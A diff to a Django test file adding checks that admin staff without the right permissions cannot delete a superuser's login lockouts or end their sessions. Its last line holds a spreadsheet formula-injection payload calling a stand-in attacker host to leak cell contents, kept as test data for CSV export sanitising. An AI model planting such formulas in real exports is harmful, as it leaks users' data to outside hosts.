@@ -391,6 +391,67 @@ def test_changing_an_active_persons_name_keeps_their_password(admin_browser):
     assert ann.full_name == "Ann B" and ann.check_password(PASSWORD)
 
 
+# --- lockouts and sessions go away only through the services that check whose they are ----------------
+
+
+def staff_with(email, *codenames):
+    from django.contrib.auth.models import Permission
+
+    actor = UserFactory(email=email, is_staff=True)
+    actor.user_permissions.set(Permission.objects.filter(content_type__app_label="accounts", codename__in=codenames))
+    return signed_in(actor)
+
+
+def test_deleting_lockouts_goes_through_the_clear_rule_so_a_superusers_lockout_stays():
+    UserFactory(email="boss@example.com", is_staff=True, is_superuser=True)
+    UserFactory(email="ann@example.com")
+    boss = LoginThrottle.objects.create(scope=LoginThrottle.SCOPE_ACCOUNT, key="boss@example.com", failures=9)
+    ann = LoginThrottle.objects.create(scope=LoginThrottle.SCOPE_ACCOUNT, key="ann@example.com", failures=9)
+    browser = staff_with("thr@team.example", "view_loginthrottle", "delete_loginthrottle", "change_user")
+
+    page = browser.get("/admin/accounts/loginthrottle/")
+    assert b'value="delete_selected"' not in page.content
+    browser.post(
+        "/admin/accounts/loginthrottle/",
+        {"action": "delete_selected", "_selected_action": [boss.pk], "post": "yes"},
+    )
+    assert browser.get(f"/admin/accounts/loginthrottle/{boss.pk}/delete/").status_code in (302, 403)
+    browser.post(f"/admin/accounts/loginthrottle/{boss.pk}/delete/", {"post": "yes"})
+    browser.post("/admin/accounts/loginthrottle/", {"action": "clear", "_selected_action": [boss.pk]})
+    assert LoginThrottle.objects.filter(pk=boss.pk).exists()
+
+    browser.post("/admin/accounts/loginthrottle/", {"action": "clear", "_selected_action": [ann.pk]})  # control
+    assert not LoginThrottle.objects.filter(pk=ann.pk).exists()
+
+
+def test_ending_sessions_in_the_admin_needs_the_right_to_manage_their_person():
+    boss = UserFactory(email="boss@example.com", is_staff=True, is_superuser=True)
+    ann = UserFactory(email="ann@example.com")
+    boss_browser, ann_browser = signed_in(boss), signed_in(ann)
+    assert boss_browser.get("/admin/").status_code == 200
+    boss_row = UserSession.objects.get(user=boss)
+    ann_row = UserSession.objects.get(user=ann)
+
+    only_sessions = staff_with("sess@team.example", "view_usersession", "delete_usersession")
+    page = only_sessions.get("/admin/accounts/usersession/")
+    assert b'value="delete_selected"' not in page.content and b'value="end_sessions"' in page.content
+    only_sessions.post(
+        "/admin/accounts/usersession/", {"action": "delete_selected", "_selected_action": [boss_row.pk], "post": "yes"}
+    )
+    only_sessions.post(f"/admin/accounts/usersession/{boss_row.pk}/delete/", {"post": "yes"})
+    only_sessions.post("/admin/accounts/usersession/", {"action": "end_sessions", "_selected_action": [ann_row.pk]})
+    assert UserSession.objects.filter(pk__in=[boss_row.pk, ann_row.pk]).count() == 2
+    assert boss_browser.get("/admin/").status_code == 200
+
+    people = staff_with("people@team.example", "view_usersession", "delete_usersession", "change_user")
+    people.post("/admin/accounts/usersession/", {"action": "end_sessions", "_selected_action": [boss_row.pk]})
+    assert boss_browser.get("/admin/").status_code == 200  # only a superuser ends a superuser's session
+    people.post("/admin/accounts/usersession/", {"action": "end_sessions", "_selected_action": [ann_row.pk]})
+    assert not UserSession.objects.filter(pk=ann_row.pk).exists()
+    assert ann_browser.get("/profile/")["Location"].startswith("/login/")
+    assert AuditEvent.objects.filter(action="session.revoke", target_label__contains="ann@example.com").exists()
+
+
 # Finding 9: the audit export uses the CSV cell rule of every export (dockspace.csv_cells).
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
 
